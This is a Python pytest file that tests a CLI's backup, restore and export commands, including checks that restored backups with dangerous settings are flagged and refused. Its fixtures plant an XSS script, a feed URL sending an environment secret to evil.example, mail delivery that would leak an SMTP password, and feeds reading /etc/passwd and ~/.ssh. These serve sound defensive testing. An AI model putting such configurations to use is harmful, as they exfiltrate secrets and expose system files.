"""`backup`, `restore`, `export`, as a user calls them."""

from __future__ import annotations

import io
import json
import shutil
import stat
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import pytest

from pipeline.cli.main import main
from pipeline.commands import queue
from pipeline.errors import NotABackup
from pipeline.records import Contact
from pipeline.store import files
from pipeline.store.database import opened
from tests.sample_workspace import AS_OF, NOW, SampleWorkspace


@pytest.fixture
def desk(tmp_path: Path) -> SampleWorkspace:
    desk = SampleWorkspace(tmp_path / "ws")
    queue.change(desk.root, 1, "sent", NOW)
    return desk


@pytest.fixture
def backup(desk: SampleWorkspace, tmp_path: Path) -> Path:
    path = tmp_path / "mine.zip"
    touchpoints(desk.root, "backup", str(path))
    return path


def touchpoints(root: Path, *words: str) -> int:
    """Do a command; return its exit code."""
    with pytest.raises(SystemExit) as left:
        main(["--workspace", str(root), "--as-of", AS_OF, *words])
    return int(left.value.code or 0)


def contents(root: Path) -> dict[str, bytes]:
    """Return every file of the user's and the database's rows."""
    names = [*(root / "data").rglob("*"), root / "feeds.yaml"]
    found = {
        str(path.relative_to(root)): path.read_bytes()
        for path in names
        if path.is_file()
        and "backups" not in path.parts
        and ".db" not in path.name
        and not path.name.startswith(".")  # the lock, and what is only remembered to be quick
    }
    with opened(root) as db:
        found["rows"] = "\n".join(db.iterdump()).encode()
    return found


def test_a_backup_goes_back_into_an_empty_folder(
    desk: SampleWorkspace, backup: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """To the letter; the run there goes on where the other left off."""
    new = tmp_path / "another computer"
    assert touchpoints(new, "restore", str(backup)) == 0
    assert "Restored 12 files" in capsys.readouterr().err
    assert contents(new) == contents(desk.root)
    assert stat.S_IMODE(backup.stat().st_mode) == 0o600

    shutil.copy(desk.root / "empty.xml", new)
    assert touchpoints(new, "run") == 0
    assert queue.touchpoint(new, 1).status == "sent"


def test_a_page_in_a_backup_is_made_anew_from_its_data(
    desk: SampleWorkspace, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """What somebody wrote into it comes into no browser; what is not ours to make is named."""
    pages = desk.root / "data" / "digests"
    made = {path.name: path.read_text("utf-8") for path in pages.glob("*.html")}
    assert {"2026-11-24.html", "latest.html", "index.html"} <= made.keys()
    for name in (*made, "evil.html"):
        (pages / name).write_text("<script>alert(1)</script>", "utf-8")
    touchpoints(desk.root, "backup", str(tmp_path / "b.zip"))
    capsys.readouterr()
    assert touchpoints(tmp_path / "new", "restore", str(tmp_path / "b.zip")) == 0
    told = "Not restored, as they could do something when opened: data/digests/evil.html."
    assert told in capsys.readouterr().err
    new = tmp_path / "new" / "data" / "digests"
    assert {path.name: path.read_text("utf-8") for path in new.glob("*.html")} == made


def test_without_a_name_it_lies_under_its_day_and_a_second_takes_its_place(
    desk: SampleWorkspace, capsys: pytest.CaptureFixture[str]
) -> None:
    """The path is printed, alone; nothing else is left behind."""
    for _ in range(2):
        assert touchpoints(desk.root, "backup") == 0
    path = desk.root / "data" / "backups" / "touchpoints-2026-11-24.zip"
    printed = capsys.readouterr()
    assert printed.out == f"{path}\n" * 2
    assert printed.err == ""
    assert {one.name for one in path.parent.iterdir()} == {path.name, "touchpoints-last-good.db"}


def test_a_file_that_is_no_backup_is_never_replaced(
    desk: SampleWorkspace, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A slip of the pen does not cost a file; a folder is a place to put it."""
    diary = tmp_path / "diary.zip"
    diary.write_text("dear diary")
    assert touchpoints(desk.root, "backup", str(diary)) == 1
    assert "is there already and is no backup" in capsys.readouterr().err
    assert diary.read_text() == "dear diary"
    assert touchpoints(desk.root, "backup", str(tmp_path)) == 0
    assert (tmp_path / "touchpoints-2026-11-24.zip").is_file()


def test_a_restore_asks_first_and_sets_aside_what_is_there(
    desk: SampleWorkspace,
    backup: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Nobody there to say yes: nothing happens. With --yes: the old lies in data/backups."""
    before = contents(desk.root)
    queue.log_contact(desk.root, Contact("halden", "Aud Lunde", NOW, "a call"), NOW)
    (desk.root / "data" / "notes" / "later.md").write_text("written since")
    monkeypatch.setattr("sys.stdin", io.StringIO(""))

    assert touchpoints(desk.root, "restore", str(backup)) == 130
    assert "data/touchpoints.db" in capsys.readouterr().err
    assert len(desk.contacts()) == 2

    assert touchpoints(desk.root, "restore", str(backup), "--yes") == 0
    assert contents(desk.root) == before
    aside = desk.root / "data" / "backups" / "before-restore-2026-11-24-080000"
    assert str(aside) in capsys.readouterr().err
    assert (aside / "data" / "notes" / "later.md").read_text() == "written since"
    with opened(aside) as db:
        assert db.execute("SELECT count(*) FROM contacts").fetchone()[0] == 2


def test_a_restore_looks_before_it_asks(
    desk: SampleWorkspace,
    backup: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """What is no backup is told at once: nobody says yes to it first."""
    backup.write_bytes(backup.read_bytes()[:-100])
    monkeypatch.setattr("sys.stdin", io.StringIO("y\n"))
    assert touchpoints(desk.root, "restore", str(backup)) == 1
    said = capsys.readouterr().err
    assert "is not restored" in said
    assert "Continue?" not in said


def test_a_backup_that_is_refused_changes_nothing(
    desk: SampleWorkspace, backup: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """One sentence, exit code 1, and the workspace as it was."""
    backup.write_bytes(backup.read_bytes()[:-100])
    before = contents(desk.root)
    assert touchpoints(desk.root, "restore", str(backup), "--yes") == 1
    assert "is not restored" in capsys.readouterr().err
    assert contents(desk.root) == before
    assert not (desk.root / "data" / ".restore").exists()


def test_a_damaged_database_is_not_backed_up_as_if_it_were_whole(
    desk: SampleWorkspace, backup: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The earlier backup of that name stays."""
    good = backup.read_bytes()
    path = files.database_path(desk.root)
    with path.open("r+b") as file:
        file.seek(8_192)
        file.write(bytes(path.stat().st_size - 20_000))
    assert touchpoints(desk.root, "backup", str(backup)) == 1
    assert "damaged" in capsys.readouterr().err
    assert backup.read_bytes() == good


def test_secrets_are_in_no_backup(
    desk: SampleWorkspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """They come from the environment or the keyring, and are written nowhere."""
    monkeypatch.setenv("TOUCHPOINTS_SMTP_PASSWORD", "hunter2-hunter2")
    desk.run(NOW + timedelta(hours=1))
    touchpoints(desk.root, "backup", str(tmp_path / "a.zip"))
    touchpoints(tmp_path / "b", "restore", str(tmp_path / "a.zip"))
    assert all(b"hunter2" not in content for content in contents(tmp_path / "b").values())


KILLED = """
import os, sys
from datetime import UTC, datetime
from pathlib import Path
from pipeline.maintenance import safekeeping
from pipeline.store import files
left, real = int(sys.argv[3]), files.move
def counted(path, to):
    global left
    left -= 1
    if left < 0:
        os._exit(9)
    real(path, to)
files.move = counted
safekeeping.restore(Path(sys.argv[1]), Path(sys.argv[2]), datetime(2026, 11, 24, 9, tzinfo=UTC))
"""


@pytest.mark.parametrize("moves", [0, 1, 2, 4, 6, 7, 8, 11])
def test_a_restore_that_is_killed_loses_nothing_and_is_done_again(
    desk: SampleWorkspace, backup: Path, tmp_path: Path, moves: int
) -> None:
    """Meanwhile there is the old workspace, none, or the new: never a run on half of one."""
    before = contents(desk.root)
    queue.log_contact(desk.root, Contact("halden", "Aud Lunde", NOW, "a call"), NOW)
    command = [sys.executable, "-c", KILLED, str(desk.root), str(backup), str(moves)]
    done = subprocess.run(command, check=False, cwd=Path(__file__).parents[2])
    assert done.returncode == 9

    if (desk.root / "feeds.yaml").exists():
        assert len(desk.contacts()) == 2
    else:
        assert touchpoints(desk.root, "run") == 1

    assert touchpoints(desk.root, "restore", str(backup), "--yes") == 0
    assert contents(desk.root) == before
    logged = 0
    for aside in (desk.root / "data" / "backups").glob("before-restore-*/data/touchpoints.db"):
        with opened(aside.parents[1]) as db:
            logged += db.execute("SELECT count(*) FROM contacts WHERE what = 'a call'").fetchone()[
                0
            ]
    assert logged == 1


def test_an_export_can_be_read_by_whatever_program(
    desk: SampleWorkspace, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Suggestions with their messages, contacts, moves, the user's files; for the owner only."""
    queue.log_contact(desk.root, Contact("halden", "Aud Lunde", NOW, "a call"), NOW)
    out = tmp_path / "out"
    assert touchpoints(desk.root, "export", str(out)) == 0

    made = json.loads((out / "touchpoints.json").read_text("utf-8"))
    assert [(one["status"], one["suggestion"]["person"]) for one in made] == [
        ("sent", "Tom Adeyemi"),
        ("suggested", "Aud Lunde"),
    ]
    assert made[0]["message"]["body"].startswith("Dear Tom,")
    contacts = json.loads((out / "contacts.json").read_text("utf-8"))
    assert [one["person"] for one in contacts] == ["Tom Adeyemi", "Aud Lunde"]
    moves = json.loads((out / "moves.json").read_text("utf-8"))
    assert [one["what"] for one in moves] == ["sent", "logged"]
    assert json.loads((out / "articles.json").read_text("utf-8")) == []
    story = (out / "history.md").read_text("utf-8")
    assert "### 1 · thank you · Tom Adeyemi" in story
    assert "sent on 2026-11-24" in story
    assert "- 2026-11-24 Aud Lunde: a call" in story
    note = Path("data", "notes", "halden.md")
    assert (out / note).read_bytes() == (desk.root / note).read_bytes()
    assert (out / "data" / "digests" / "2026-11-24.md").is_file()
    modes = {stat.S_IMODE(path.stat().st_mode) for path in (out, *out.rglob("*"))}
    assert modes == {0o600, 0o700}

    assert touchpoints(desk.root, "export", str(out)) == 1
    assert "not empty: name a new folder" in capsys.readouterr().err


def test_a_restore_from_what_is_no_backup_makes_no_workspace(tmp_path: Path) -> None:
    """Nothing is begun where nothing could be brought back."""
    from pipeline.maintenance.safekeeping import restore

    with pytest.raises(NotABackup):
        restore(tmp_path / "new", tmp_path / "nowhere.zip", NOW)
    assert not (tmp_path / "new" / "feeds.yaml").exists()


def test_a_backup_that_sends_a_secret_somewhere_says_so_and_asks(
    desk: SampleWorkspace, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Before anything is restored, with the host; without an answer nothing is. So does check."""
    feeds = (desk.root / "feeds.yaml").read_text("utf-8")
    secret = '"https://evil.example/?a=$\\x7bTOUCHPOINTS_NEWS}"'
    (desk.root / "feeds.yaml").write_text(
        feeds.replace("feeds: [", f"feeds: [{secret}, ", 1), "utf-8"
    )
    assert secret in (desk.root / "feeds.yaml").read_text("utf-8")
    assert touchpoints(desk.root, "backup", str(tmp_path / "b.zip")) == 0
    capsys.readouterr()
    told = "TOUCHPOINTS_NEWS of your environment or keyring"

    assert touchpoints(tmp_path / "new", "restore", str(tmp_path / "b.zip")) != 0
    assert f"sends {told} to evil.example" in capsys.readouterr().err
    assert not (tmp_path / "new" / "feeds.yaml").exists()

    assert touchpoints(tmp_path / "new", "restore", "--yes", str(tmp_path / "b.zip")) == 0
    assert f"sends {told} to evil.example" in capsys.readouterr().err
    touchpoints(tmp_path / "new", "check")
    assert f"{told} is sent to evil.example" in " ".join(capsys.readouterr().out.split())


@pytest.mark.parametrize(
    ("settings", "feed", "told"),
    [
        (
            "delivery: {mail: {to: eve@evil.example, host: mx.evil.example, user: eve}}, ",
            "",
            (
                "sends TOUCHPOINTS_SMTP_PASSWORD of your environment or keyring to mx.evil.example",
                "mails the digest to eve@evil.example by mx.evil.example",
            ),
        ),
        ("", "http://192.168.1.1/reboot", ("reads 192.168.1.1, which is in your own network",)),
        ("", "http://router/reboot", ("reads router, which is in your own network",)),
        ("", "/etc/passwd", ("reads /etc/passwd as a feed",)),
        ("", '"file:///etc/hosts", ../x.xml', ("reads /etc/hosts as a feed", "/x.xml as a feed")),
        ('links: [/srv, "~/.ssh", data], ', "", ("links lead into /srv.", "into ~/.ssh.")),
    ],
)
def test_a_backup_that_mails_the_digest_or_looks_inside_says_so_and_asks(
    settings: str,
    feed: str,
    told: tuple[str, ...],
    desk: SampleWorkspace,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Who gave you the backup wrote its feeds.yaml, which would count as written by you."""
    feeds = (desk.root / "feeds.yaml").read_text("utf-8")
    feeds = feeds.replace("settings: {", f"settings: {{{settings}", 1)
    feeds = feeds.replace("feeds: [", f"feeds: [{feed}, " if feed else "feeds: [", 1)
    (desk.root / "feeds.yaml").write_text(feeds, "utf-8")
    assert touchpoints(desk.root, "backup", str(tmp_path / "b.zip")) == 0
    capsys.readouterr()
    assert touchpoints(tmp_path / "new", "restore", str(tmp_path / "b.zip")) != 0
    said = capsys.readouterr().err
    assert all(what in said for what in told), said
    assert not (tmp_path / "new" / "feeds.yaml").exists()
